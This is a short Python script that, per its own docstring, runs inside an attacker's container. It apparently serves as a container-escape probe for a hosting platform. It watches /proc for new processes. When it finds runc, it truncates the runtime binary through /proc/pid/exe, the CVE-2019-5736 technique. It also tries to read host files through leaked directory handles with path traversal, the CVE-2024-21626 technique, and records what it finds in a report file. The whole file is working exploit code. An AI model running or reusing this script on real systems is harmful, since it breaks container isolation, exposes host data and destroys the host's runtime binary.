"""Runs in the attacker's container all the time: falls upon every process that enters it."""

import contextlib
import json
import os
import sys

REPORT = "/app/report.json"
HOST = "../../../../../../../../../.."


def attack(pid, found):
    base = f"/proc/{pid}"
    with contextlib.suppress(OSError):
        # runc before it becomes the wanted program: overwriting it was CVE-2019-5736
        name = os.readlink(f"{base}/exe")
        found.setdefault("seen", []).append(name)
        if "runc" in name or "memfd" in name:
            os.close(os.open(f"{base}/exe", os.O_WRONLY | os.O_TRUNC))
            found.setdefault("runc", []).append(name)
    for link in ("cwd", "root", *[f"fd/{number}" for number in range(12)]):
        with contextlib.suppress(OSError):
            # a directory of the host left open was CVE-2024-21626
            for path in (sys.argv[1], f"{HOST}{sys.argv[1]}"):
                with open(f"{base}/{link}/{path.lstrip('/')}") as file:
                    found.setdefault("host", []).append([link, file.read(100)])
    for name in ("environ", "maps"):
        with contextlib.suppress(OSError):
            text = open(f"{base}/{name}").read()
            if "PAAS_STATE_DIR" in text or "/usr/sbin/runc" in text:
                found.setdefault("told", []).append(name)


def main():
    known, found = {str(os.getpid())}, {}
    print("lurking", flush=True)
    while True:
        present = {name for name in os.listdir("/proc") if name.isdigit()}
        for pid in present - known:
            for _ in range(40):
                attack(pid, found)
        if present - known:
            with open(REPORT + ".new", "w") as file:
                json.dump({key: sorted(map(str, value))[:50] for key, value in found.items()}, file)
            os.replace(REPORT + ".new", REPORT)
        known = present | {str(os.getpid())}


main()
